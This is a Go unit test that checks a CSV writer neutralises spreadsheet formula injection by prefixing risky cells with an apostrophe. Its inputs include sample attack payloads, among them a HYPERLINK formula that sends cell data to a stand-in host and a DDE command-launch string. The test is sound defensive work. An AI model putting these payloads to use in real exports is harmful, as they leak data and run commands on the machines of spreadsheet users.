package claim

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
)

// TestCSVCellsAreInert: formula-looking text gets an apostrophe, numbers and plain text are
// left alone, and the CSV round-trips through encoding/csv.
func TestCSVCellsAreInert(t *testing.T) {
	in := []string{`=HYPERLINK("http://evil.invalid/?"&A1,"open")`, `+cmd|'/C calc'!A0`, "-2+3", "@SUM(A1)", "\tx", "\rx",
		"-654201.72", "12", "H3001-2026-000123", "", "a,b\"c"}
	want := []string{`'=HYPERLINK("http://evil.invalid/?"&A1,"open")`, `'+cmd|'/C calc'!A0`, "'-2+3", "'@SUM(A1)", "'\tx", "'\rx",
		"-654201.72", "12", "H3001-2026-000123", "", "a,b\"c"}
	var buf bytes.Buffer
	w := NewCSVWriter(&buf)
	if err := w.Write(in); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	got, err := csv.NewReader(&buf).Read()
	if err != nil || !slices.Equal(got, want) {
		t.Errorf("read back %q (%v), want %q", got, err, want)
	}
}
